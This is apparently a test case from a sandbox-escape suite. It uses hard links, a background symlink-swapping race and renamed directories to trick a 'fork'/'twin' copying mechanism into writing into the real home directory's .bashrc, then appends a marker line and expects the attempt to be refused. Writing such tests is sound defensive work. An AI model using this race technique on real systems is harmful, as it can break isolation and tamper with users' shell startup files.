# name: have a fork hard-link the user's .bashrc into the twin, and append to it there
# line: 66
# finding: 1
# play: fork, look in the twin
# forks: 4
# runs: in the worker
import os

from attack import STAGE, in_background, planted, refused

FILLERS = 400
NAME = ".bashrc"


def plant():
    directories = ("a", "b")
    for directory in directories:
        os.makedirs(directory, exist_ok=True)
        for number in range(FILLERS):
            with open(f"{directory}/f{number}", "w", encoding="utf-8") as file:
                file.write("x")
    with open(f"a/{NAME}", "w", encoding="utf-8") as file:
        file.write("mine\n")
    os.link(f"a/{NAME}", f"b/{NAME}")
    away = iter(range(1000000))

    def swap(room):
        for one, other in (directories, directories[::-1]):
            first = f"{room}/t/w/{one}"
            if (os.path.lexists(f"{first}/{NAME}") and not os.path.islink(first)
                    and not os.path.lexists(f"{room}/t/w/{other}/{NAME}")):
                os.rename(first, f"{STAGE['family']}/away-{next(away)}")
                os.symlink(STAGE["home"], first)

    def swap_all():
        room = STAGE["family"]
        for _ in range(5):
            swap(room)
            room += "/o"

    in_background(swap_all)
    planted("two names of one file, and the first copy becomes the home's")


def look():
    for place in ("a", "b"):
        path = f"{place}/{NAME}"
        if not os.path.islink(place) and os.path.lexists(path):
            with open(path, "a", encoding="utf-8") as file:
                file.write("# windlass-attack\n")
    refused("only copies were appended to")


plant() if STAGE["part"] == "plant" else look()
